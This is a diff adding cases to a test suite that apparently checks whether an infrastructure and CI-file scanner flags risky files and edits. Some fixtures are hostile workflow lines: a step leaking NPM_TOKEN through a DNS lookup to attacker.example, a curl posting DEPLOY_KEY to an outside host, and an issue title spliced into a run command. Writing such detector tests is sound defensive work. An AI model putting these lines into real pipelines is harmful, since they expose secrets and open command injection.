@@ -140,6 +140,8 @@ const SENSITIVE_FILES: Case[] = [
   { name: 'serverless.yml function URL', path: `${P}/serverless.yml`, rule: 'content.public-access', content: 'service: x\nfunctions:\n  api:\n    handler: handler.main\n    url: true\n' },
   { name: 'ECS task definition privileged (jsonencode)', path: `${P}/infra/ecs.tf`, rule: 'content.privileged', content: 'resource "aws_ecs_task_definition" "t" {\n  family = "t"\n  container_definitions = jsonencode([{\n    name = "app"\n    image = "app"\n    privileged = true\n  }])\n}\n' },
   { name: 'workflow: secret to a DNS lookup', path: `${P}/.github/workflows/a.yml`, rule: 'content.workflow-secrets', content: 'on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: nslookup ${{ secrets.NPM_TOKEN }}.attacker.example\n' },
+  { name: 'Vault policy: every path', path: `${P}/vault/ci.hcl`, rule: 'content.iam', content: 'path "*" {\n  capabilities = ["create", "read", "update", "delete", "list"]\n}\n' },
+  { name: 'Nomad docker task privileged', path: `${P}/nomad/job.nomad.hcl`, rule: 'content.privileged', content: 'job "x" {\n  group "g" {\n    task "t" {\n      driver = "docker"\n      config {\n        image = "x"\n        privileged = true\n      }\n    }\n  }\n}\n' },
 ];
 
 // ---- Ordinary: must not come back sensitive ----------------------------------------------------------------------
@@ -166,6 +168,8 @@ const ORDINARY_FILES: Case[] = [
   { name: 'variables: a VPC range and open egress', path: `${P}/infra/variables.tf`, content: 'variable "vpc_cidr" {\n  default = "10.0.0.0/16"\n}\nvariable "egress_cidr" {\n  default = "0.0.0.0/0"\n}\n' },
   { name: 'Azure SQL: allow Azure services (0.0.0.0–0.0.0.0)', path: `${P}/infra/sql.tf`, content: 'resource "azurerm_mssql_firewall_rule" "azure" {\n  name = "AllowAzure"\n  start_ip_address = "0.0.0.0"\n  end_ip_address = "0.0.0.0"\n}\n' },
   { name: 'NACL admitting return traffic on ephemeral ports', path: `${P}/infra/nacl.tf`, content: 'resource "aws_network_acl_rule" "in" {\n  rule_number = 100\n  egress = false\n  protocol = "tcp"\n  rule_action = "allow"\n  cidr_block = "0.0.0.0/0"\n  from_port = 1024\n  to_port = 65535\n}\n' },
+  { name: 'Vault policy reading one application\'s secrets', path: `${P}/vault/app.hcl`, content: 'path "secret/data/myapp/*" {\n  capabilities = ["read", "list"]\n}\n' },
+  { name: 'workflow_dispatch input in a script', path: `${P}/.github/workflows/release.yml`, content: 'on:\n  workflow_dispatch:\n    inputs:\n      version: {required: true}\npermissions:\n  contents: read\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: make release VERSION=${{ github.event.inputs.version }}\n' },
   { name: 'API Gateway OPTIONS with no auth (CORS preflight)', path: `${P}/infra/api.tf`, content: 'resource "aws_api_gateway_method" "cors" {\n  http_method = "OPTIONS"\n  authorization = "NONE"\n}\n' },
 ];
 
@@ -219,6 +223,8 @@ const EDITS: EditCase[] = [
   { name: 'workflow permissions block removed', path: `${P}/.github/workflows/ci.yml`, old: 'permissions:\n  contents: read\n\njobs:', new: 'jobs:', sensitive: true },
   { name: 'workflow step posting a secret', path: `${P}/.github/workflows/ci.yml`, old: '      - run: npm test', new: '      - run: npm test\n      - run: curl -X POST --data "${{ secrets.DEPLOY_KEY }}" https://example.net/hook', sensitive: true },
   { name: 'workflow trigger switched to pull_request_target', path: `${P}/.github/workflows/ci.yml`, old: 'on:\n  pull_request:', new: 'on:\n  pull_request_target:', sensitive: true },
+  { name: 'workflow trigger pull_request_target edited alone', path: `${P}/.github/workflows/ci.yml`, old: '  pull_request:\n    types: [opened]', new: '  pull_request_target:\n    types: [opened]', sensitive: true },
+  { name: 'workflow issue title spliced into run', path: `${P}/.github/workflows/ci.yml`, old: '      - run: make', new: '      - run: echo "${{ github.event.issue.title }}"', sensitive: true },
   { name: 'Dockerfile USER root', path: `${P}/Dockerfile`, old: 'USER node', new: 'USER root', sensitive: true },
   { name: 'compose: privileged + docker.sock', path: `${P}/docker-compose.yml`, old: '    image: app', new: '    image: app\n    privileged: true\n    volumes:\n      - /var/run/docker.sock:/var/run/docker.sock', sensitive: true },
   { name: 'public-access block resource deleted', path: `${P}/infra/s3.tf`, old: 'resource "aws_s3_bucket_public_access_block" "b" {\n  bucket = aws_s3_bucket.b.id\n  block_public_acls = true\n  restrict_public_buckets = true\n}\n', new: '', sensitive: true },
